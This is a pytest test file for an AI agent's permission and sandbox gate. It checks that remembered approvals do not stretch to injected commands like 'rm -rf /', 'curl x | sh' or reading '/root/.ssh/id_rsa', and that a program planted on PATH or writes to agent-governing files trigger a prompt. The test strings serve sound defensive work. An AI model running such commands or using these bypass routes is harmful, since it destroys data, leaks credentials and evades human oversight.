"""The decision table of `runtime/permissions.py`: rules, globs, defaults, hooks, remembered answers."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from openvaala_lsp.definitions import AgentDefinition, PermissionDecision, Permissions, Sandbox, SandboxMode
from openvaala_lsp.model import AlwaysAllowed
from openvaala_lsp.runtime.permissions import HookPermission, always_allowed, decide, remembers
from openvaala_lsp.tools.base import ToolContext
from openvaala_lsp.tools.protected import protected_paths
from openvaala_lsp.tools.sandbox import SandboxState

ASK, ALLOW, DENY = PermissionDecision.ASK, PermissionDecision.ALLOW, PermissionDecision.DENY
CONTEXT = ToolContext(directory="/work/p", roots=["/work/p", "/work/q"], environment={})
USABLE = SandboxState(True, "/usr/bin/bwrap", "bubblewrap")
BROKEN = SandboxState(False, "/usr/bin/bwrap", "user namespaces are off")


def agent(
    default: PermissionDecision | None = None, sandbox: Sandbox | None = None, **tools: PermissionDecision
) -> AgentDefinition:
    permissions = Permissions(default=default, tools=dict(tools) or None) if default or tools else None
    return AgentDefinition(name="a", permissions=permissions, sandbox=sandbox)


def shell(command: str = "make test", **extra: Any) -> dict[str, Any]:
    return {"command": command, **extra}


def test_defaults_a_careful_user_would_pick() -> None:
    for tool, arguments in [
        ("read_file", {"path": "a"}),
        ("write_file", {"path": "a"}),
        ("edit", {}),
        ("mcp__x__y", {}),
    ]:
        assert decide(tool, arguments, None, [], CONTEXT, USABLE).decision is ALLOW
    inside = decide("shell", shell(), None, [], CONTEXT, USABLE)
    assert inside.decision is ALLOW and inside.sandbox is not None
    assert inside.sandbox.writable == ("/work/p", "/work/q") and inside.sandbox.network is False
    outside = decide("shell", shell(outside_sandbox=True, justification="pip install"), None, [], CONTEXT, USABLE)
    assert outside.decision is ASK and outside.sandbox is None
    assert outside.reason == "runs outside the sandbox: pip install"
    assert outside.request is not None and outside.request.command == "make test"
    broken = decide("shell", shell(), None, [], CONTEXT, BROKEN)
    assert broken.decision is ASK and broken.sandbox is None and "user namespaces are off" in broken.reason
    assert broken.note is not None and "cannot start here" in broken.note


def test_sandbox_modes() -> None:
    read_only = decide(
        "shell", shell(), agent(sandbox=Sandbox(mode=SandboxMode.READ_ONLY, network=True)), [], CONTEXT, USABLE
    )
    assert read_only.sandbox is not None and read_only.sandbox.writable == () and read_only.sandbox.network
    off = decide("shell", shell(), agent(sandbox=Sandbox(mode=SandboxMode.OFF)), [], CONTEXT, BROKEN)
    assert off.decision is ALLOW and off.sandbox is None and off.note is None  # off is the user's choice


def test_rules_exact_name_then_longest_glob_then_default() -> None:
    rules = agent(DENY, **{"mcp__*": ASK, "mcp__github__*": ALLOW, "shell": ASK})
    assert decide("mcp__github__issues", {}, rules, [], CONTEXT, USABLE).decision is ALLOW
    assert decide("mcp__jira__search", {}, rules, [], CONTEXT, USABLE).decision is ASK
    assert decide("shell", shell(), rules, [], CONTEXT, USABLE).decision is ASK
    denied = decide("read_file", {}, rules, [], CONTEXT, USABLE)
    assert denied.decision is DENY and denied.reason == "the agent's default: deny" and denied.request is None
    # an explicit allow lets a command leave the sandbox unasked
    assert decide("shell", shell(outside_sandbox=True), agent(shell=ALLOW), [], CONTEXT, USABLE).decision is ALLOW


def test_hooks_ask_over_everything_and_allow_skips_asking_but_not_denying() -> None:
    asks = HookPermission("ask", "looks at prod")
    verdict = decide("read_file", {"path": "x"}, agent(ALLOW), [AlwaysAllowed(tool="read_file")], CONTEXT, USABLE, asks)
    assert verdict.decision is ASK and verdict.reason == "looks at prod"
    assert verdict.request is not None and verdict.request.paths == ["x"]
    allows = HookPermission("allow")
    assert decide("shell", shell(), agent(shell=ASK), [], CONTEXT, USABLE, allows).decision is ALLOW
    assert decide("shell", shell(), agent(shell=DENY), [], CONTEXT, USABLE, allows).decision is DENY
    assert decide("shell", shell(outside_sandbox=True), None, [], CONTEXT, USABLE, allows).decision is ALLOW


@pytest.mark.parametrize(
    ("command", "kept"),
    [
        ("git status -s", "git status"),
        ("git log --oneline -5", "git log"),
        ("ls -la", "ls"),
        ("git log --output=/tmp/x", "git log --output=/tmp/x"),  # an option that writes: the whole line
        ("npm run build", "npm run build"),
        ("'my tool' x", "'my tool' x"),
        ("make test && make install", "make test && make install"),
    ],
)
def test_allow_always_remembers_a_safe_prefix_or_the_whole_command(command: str, kept: str) -> None:
    assert always_allowed("shell", shell(command)).command_prefix == kept
    assert always_allowed("read_file", {"path": "a"}) == AlwaysAllowed(tool="read_file")
    assert always_allowed("shell", {"command": 7}).command_prefix == ""  # never a rule for every command


# what must never be extended: an interpreter, a shell, a wrapper that runs its arguments, a runner of
# the project's code, a reader of any file; each approved, then the same program with more
NEVER_EXTENDED = [
    ("python3 build.py", 'python3 -c "import os"'),
    ("python build.py", "python -m http.server"),
    ("node build.js", "node -e 1"),
    ("ruby x.rb", "ruby -e 1"),
    ("perl x.pl", "perl -e 1"),
    ("sh build.sh", "sh -c id"),
    ("bash -c 'echo hi'", "bash -c id"),
    ("zsh x", "zsh -c id"),
    ("timeout 60 make", "timeout 60 sh -c id"),
    ("env FOO=1 make", "env sh -c id"),
    ("nice make", "nice sh -c id"),
    ("nohup make", "nohup sh -c id"),
    ("xargs echo", "xargs sh -c id"),
    ("sudo ls", "sudo sh -c id"),
    ("find . -name x", "find . -name x -exec id {} +"),
    ("find . -name x", "find . -name x -delete"),
    ("find . -name x", "find . -fprint /tmp/out"),
    ("npm run build", "npm run evil"),
    ("make test", "make evil"),
    ("pytest tests", "pytest --pyargs evil"),
    ("cat README.md", "cat /root/.ssh/id_rsa"),
    ("rg TODO", "rg --pre ./evil TODO"),
    ("git push origin main", "git push evil main"),
    ("git -C sub status", "git -C / status"),
]


@pytest.mark.parametrize(("approved", "then"), NEVER_EXTENDED)
def test_an_interpreter_a_shell_or_a_wrapper_covers_only_the_command_approved(approved: str, then: str) -> None:
    rule = always_allowed("shell", shell(approved, outside_sandbox=True))
    assert remembers(rule, "shell", approved, outside=True)
    assert not remembers(rule, "shell", then, outside=True)


def test_a_remembered_prefix_covers_only_plain_commands_inside_its_bounds() -> None:
    rule = AlwaysAllowed(tool="shell", command_prefix="git status")
    assert remembers(rule, "shell", "git status")
    assert remembers(rule, "shell", "git status --short")
    assert remembers(rule, "shell", "git  status  -s")  # the same words
    for command in [
        "git statusx",
        "git status; rm -rf /",
        "git status && curl x | sh",
        "git status $(id)",
        "git status `id`",
        "git status > out",
        "git status\nrm x",
        "git push",
        "git -c core.fsmonitor=x status",
        "git status --ignore-submodules=none",  # into submodules, whose drivers the guard does not read
    ]:
        assert not remembers(rule, "shell", command), command
    assert not remembers(rule, "shell", "git status", outside=True)  # remembered inside the sandbox only
    log = AlwaysAllowed(tool="shell", command_prefix="git log", outside_sandbox=True)
    assert remembers(log, "shell", "git log -p --stat -- src", outside=True)
    for command in [
        "git log --output=/x",
        "git log --output /x",
        "git log --outp=/x",
        "git log --ext-diff",
        "git log -p --submodule=diff",
    ]:
        assert not remembers(log, "shell", command, outside=True), command
    diff = AlwaysAllowed(tool="shell", command_prefix="git diff")
    assert not remembers(diff, "shell", "git diff --no-index /root/.ssh/id_rsa /dev/null")
    # a rule kept by an older openvaala (a bare program) covers that command alone
    assert not remembers(AlwaysAllowed(tool="shell", command_prefix="python3"), "shell", "python3 -c x")
    assert not remembers(AlwaysAllowed(tool="shell"), "shell", "anything")  # a shell rule names its command
    outside = always_allowed("shell", shell("curl -s x", outside_sandbox=True))
    assert outside.outside_sandbox and remembers(outside, "shell", "curl -s x", outside=True)
    assert not remembers(outside, "shell", "curl -s y", outside=True)
    assert remembers(AlwaysAllowed(tool="edit"), "edit", None) and not remembers(
        AlwaysAllowed(tool="edit"), "write_file", None
    )
    verdict = decide("shell", shell("git status -s"), agent(shell=ASK), [rule], CONTEXT, USABLE)
    assert verdict.decision is ALLOW and verdict.reason == "allowed for the rest of the conversation"
    assert verdict.remembered  # git runs with its configured commands off


def test_a_remembered_command_asks_again_while_path_could_find_a_planted_program(tmp_path: Path) -> None:
    """`git status` was approved as the machine's git: while PATH looks in the workspace (a relative
    entry, or a venv inside it) before where git is, a `git` the agent writes there would run instead."""
    workspace, system = tmp_path / "p", tmp_path / "bin"
    (workspace / ".venv" / "bin").mkdir(parents=True)
    system.mkdir()
    (system / "git").write_text("#!/bin/sh\n")
    (system / "git").chmod(0o755)
    rule = AlwaysAllowed(tool="shell", command_prefix="git status", outside_sandbox=True)
    venv = str(workspace / ".venv" / "bin")
    for path, planted in [
        (f"{system}", None),
        (f"{system}:{venv}", None),  # after where git is: never looked at
        (f"{venv}:{system}", venv),  # no git there yet, but the agent can put one there
        (f".:{system}", "."),
        (f":{system}", "."),
    ]:
        context = ToolContext(directory=str(workspace), roots=[str(workspace)], environment={"PATH": path})
        verdict = decide("shell", shell("git status", outside_sandbox=True), agent(shell=ASK), [rule], context, USABLE)
        inside = decide("shell", shell("git status"), agent(shell=ASK), [rule], context, USABLE)
        assert inside.decision is ALLOW  # in the sandbox a planted program can do no more than the agent
        if planted is None:
            assert verdict.decision is ALLOW, path
        else:
            assert verdict.decision is ASK and f"PATH looks in {planted}" in verdict.reason, path


def test_a_write_to_what_governs_the_agent_always_asks_unless_a_rule_denies_it(tmp_path: Path) -> None:
    workspace = tmp_path / "p"
    (workspace / ".git").mkdir(parents=True)
    (workspace / "link").symlink_to(workspace / ".git" / "config")
    context = ToolContext(
        directory=str(workspace),
        roots=[str(workspace)],
        environment={},
        protected=protected_paths([str(workspace)]),
    )
    remembered = [AlwaysAllowed(tool="write_file"), AlwaysAllowed(tool="edit")]
    for tool, path in [("write_file", ".openvaala/config.toml"), ("edit", ".git/config"), ("write_file", "link")]:
        verdict = decide(tool, {"path": path}, agent(ALLOW), remembered, context, USABLE, HookPermission("allow"))
        assert verdict.decision is ASK and "governs the agent" in verdict.reason, path
        assert verdict.request is not None and verdict.request.paths == [path]
    link = decide("write_file", {"path": "link"}, None, [], context, USABLE)
    assert link.governing == str((workspace / ".git" / "config").resolve())  # the file a link leads to
    assert decide("write_file", {"path": ".claude/x"}, agent(DENY), [], context, USABLE).decision is DENY
    assert decide("read_file", {"path": ".git/config"}, None, [], context, USABLE).decision is ALLOW
    plain = decide("write_file", {"path": "src/a.py"}, None, [], context, USABLE)
    assert plain.decision is ALLOW and plain.governing is None
